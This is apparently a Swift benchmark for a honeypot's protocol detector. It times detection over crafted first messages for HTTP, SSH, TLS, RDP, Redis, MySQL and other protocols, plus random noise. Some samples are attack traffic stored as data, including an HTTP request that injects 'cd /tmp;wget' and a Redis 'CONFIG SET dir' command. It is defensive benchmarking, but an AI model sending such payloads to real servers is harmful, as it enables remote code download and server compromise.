import Foundation

/// Cost of `ProtocolDetector.detect` per trap payload, over a mix shaped like what trap ports get: one
/// first message of every recognised protocol, binary noise and text that matches nothing (those run
/// every recogniser), and a 64 KiB blob (the detector looks at 16 KiB of it). Built without SwiftPM by
/// `bench/protocols/run.sh`.
@main
struct ProtocolDetectBench {
    static func u16(_ v: Int) -> [UInt8] { [UInt8((v >> 8) & 0xff), UInt8(v & 0xff)] }
    static func u32(_ v: Int) -> [UInt8] { u16(v >> 16) + u16(v & 0xffff) }
    static func le32(_ v: UInt32) -> [UInt8] { [UInt8(v & 0xff), UInt8((v >> 8) & 0xff), UInt8((v >> 16) & 0xff), UInt8(v >> 24)] }

    static func corpus() -> [(String, [UInt8], ProtocolDetector.Transport)] {
        var out: [(String, [UInt8], ProtocolDetector.Transport)] = []
        out.append(("http", Array("GET /shell?cd+/tmp;wget+http://x/y HTTP/1.1\r\nHost: 192.0.2.1:6379\r\nUser-Agent: Hello, World\r\nAccept: */*\r\nConnection: close\r\n\r\n".utf8), .tcp))
        out.append(("docker", Array("GET /v1.41/containers/json HTTP/1.1\r\nHost: x\r\nUser-Agent: docker-sdk-python/7.1.0\r\n\r\n".utf8), .tcp))
        let lists = ["curve25519-sha256,curve25519-sha256@libssh.org,ecdh-sha2-nistp256,ecdh-sha2-nistp384,diffie-hellman-group14-sha256,ext-info-c",
                     "ssh-ed25519,rsa-sha2-512,rsa-sha2-256", "chacha20-poly1305@openssh.com,aes128-ctr,aes256-ctr,aes128-gcm@openssh.com",
                     "chacha20-poly1305@openssh.com,aes128-ctr,aes256-ctr,aes128-gcm@openssh.com", "umac-64-etm@openssh.com,hmac-sha2-256-etm@openssh.com",
                     "umac-64-etm@openssh.com,hmac-sha2-256-etm@openssh.com", "none,zlib@openssh.com", "none,zlib@openssh.com", "", ""]
        var kex: [UInt8] = [20] + [UInt8](repeating: 7, count: 16)
        for l in lists { kex += u32(l.utf8.count) + Array(l.utf8) }
        kex += [0, 0, 0, 0, 0]
        out.append(("ssh+kexinit", Array("SSH-2.0-OpenSSH_9.2p1 Debian-2+deb12u3\r\n".utf8) + u32(kex.count + 5) + [4] + kex + [0, 0, 0, 0], .tcp))
        var ch: [UInt8] = [3, 3] + [UInt8](repeating: 1, count: 32) + [32] + [UInt8](repeating: 2, count: 32)
        let suites: [UInt16] = [0x1301, 0x1302, 0x1303, 0xc02b, 0xc02f, 0xc02c, 0xc030, 0xcca9, 0xcca8, 0xc013, 0xc014, 0x009c, 0x009d, 0x002f, 0x0035]
        ch += u16(suites.count * 2) + suites.flatMap { u16(Int($0)) } + [1, 0]
        let name = Array("trap.example".utf8)
        let sni: [UInt8] = [0, 0] + u16(name.count + 5) + u16(name.count + 3) + [0] + u16(name.count) + name
        let groups: [UInt8] = [0, 0x0a] + u16(8) + u16(6) + [0, 0x1d, 0, 0x17, 0, 0x18]
        let keyShare: [UInt8] = [0, 0x33] + u16(38) + u16(36) + [0, 0x1d] + u16(32) + [UInt8](repeating: 9, count: 32)
        let exts = sni + groups + keyShare
        ch += u16(exts.count) + exts
        let hs: [UInt8] = [1, 0] + u16(ch.count) + ch
        out.append(("tls", [22, 3, 1] + u16(hs.count) + hs, .tcp))
        let cookie = Array("Cookie: mstshash=administrator\r\n".utf8) + [1, 0, 8, 0, 3, 0, 0, 0]
        out.append(("rdp", [3, 0] + u16(11 + cookie.count) + [UInt8(6 + cookie.count), 0xe0, 0, 0, 0, 0, 0] + cookie, .tcp))
        out.append(("smb2", [0, 0, 0, 100, 0xfe, 0x53, 0x4d, 0x42] + [UInt8](repeating: 0, count: 96), .tcp))
        out.append(("redis", Array("*3\r\n$6\r\nCONFIG\r\n$3\r\nSET\r\n$3\r\ndir\r\n".utf8), .tcp))
        let mq: [UInt8] = u16(4) + Array("MQTT".utf8) + [4, 0x82, 0, 60] + u16(8) + Array("mosq-abc".utf8) + u16(5) + Array("admin".utf8)
        out.append(("mqtt", [0x10, UInt8(mq.count)] + mq, .tcp))
        out.append(("sip/udp", Array("OPTIONS sip:100@192.0.2.1 SIP/2.0\r\nVia: SIP/2.0/UDP 198.51.100.1:5060\r\nFrom: <sip:100@x>;tag=1\r\nTo: <sip:100@x>\r\nCall-ID: 1@x\r\nCSeq: 1 OPTIONS\r\nUser-Agent: friendly-scanner\r\n\r\n".utf8), .udp))
        let q: [UInt8] = [0x12, 0x34, 1, 0, 0, 1, 0, 0, 0, 0, 0, 1, 7] + Array("example".utf8) + [3] + Array("com".utf8) + [0, 0, 1, 0, 1, 0, 0, 0x29, 0x10, 0, 0, 0, 0, 0, 0, 0]
        out.append(("dns/udp", q, .udp))
        out.append(("dns/tcp", u16(q.count) + q, .tcp))
        out.append(("telnet", [255, 253, 3, 255, 251, 24, 255, 251, 31, 255, 251, 32], .tcp))
        var my = le32(0xa68d) + le32(16 << 20) + [33] + [UInt8](repeating: 0, count: 23) + Array("root".utf8) + [0, 20] + [UInt8](repeating: 0x5a, count: 20)
        my += Array("mysql_native_password".utf8) + [0]
        out.append(("mysql", [UInt8(my.count), 0, 0, 1] + my, .tcp))
        let table: [UInt8] = [0, 0, 26, 0, 6, 1, 0, 32, 0, 1, 2, 0, 33, 0, 1, 3, 0, 34, 0, 4, 4, 0, 38, 0, 1, 0xff]
        let data: [UInt8] = [15, 0, 7, 0xd0, 0, 0, 0, 0, 0, 0, 0, 1, 0]
        out.append(("mssql", [0x12, 1] + u16(8 + table.count + data.count) + [0, 0, 1, 0] + table + data, .tcp))
        let banner = Array("host::features=shell_v2,cmd,stat_v2,ls_v2,fixed_push_mkdir,apex,abb".utf8) + [0]
        out.append(("adb", le32(0x4e58_4e43) + le32(0x0100_0001) + le32(256 * 1024) + le32(UInt32(banner.count)) + le32(0) + le32(0x4e58_4e43 ^ 0xffff_ffff) + banner, .tcp))
        var rng = SystemRandomNumberGenerator()
        out.append(("noise 512 B", (0..<512).map { _ in UInt8.random(in: 0...255, using: &rng) }, .tcp))
        out.append(("text, no match", Array("hello there, is anybody home?\r\n".utf8), .tcp))
        out.append(("noise 64 KiB", (0..<65536).map { _ in UInt8.random(in: 0...255, using: &rng) }, .tcp))
        return out
    }

    static func main() {
        var seconds = 2.0
        let args = CommandLine.arguments
        if let i = args.firstIndex(of: "--seconds"), i + 1 < args.count, let s = Double(args[i + 1]) { seconds = s }
        let items = corpus()
        print("payload                ns/detect   label")
        var totalNs = 0.0
        var labels = 0
        for (name, bytes, transport) in items {
            var sink = 0
            var n = 0
            let start = DispatchTime.now().uptimeNanoseconds
            var now = start
            while Double(now - start) < seconds / Double(items.count) * 1e9 {
                for _ in 0..<100 { sink &+= ProtocolDetector.detect(bytes, transport: transport).label.rawValue.utf8.count }
                n += 100
                now = DispatchTime.now().uptimeNanoseconds
            }
            let ns = Double(now - start) / Double(n)
            totalNs += ns
            labels &+= sink
            let label = ProtocolDetector.detect(bytes, transport: transport).label.rawValue
            print(name.padding(toLength: 22, withPad: " ", startingAt: 0), String(format: "%10.0f", ns), "  ", label)
        }
        print(String(format: "mean over the mix: %.0f ns per payload (%.1f µs); checksum %d", totalNs / Double(items.count), totalNs / Double(items.count) / 1000, labels))
    }
}
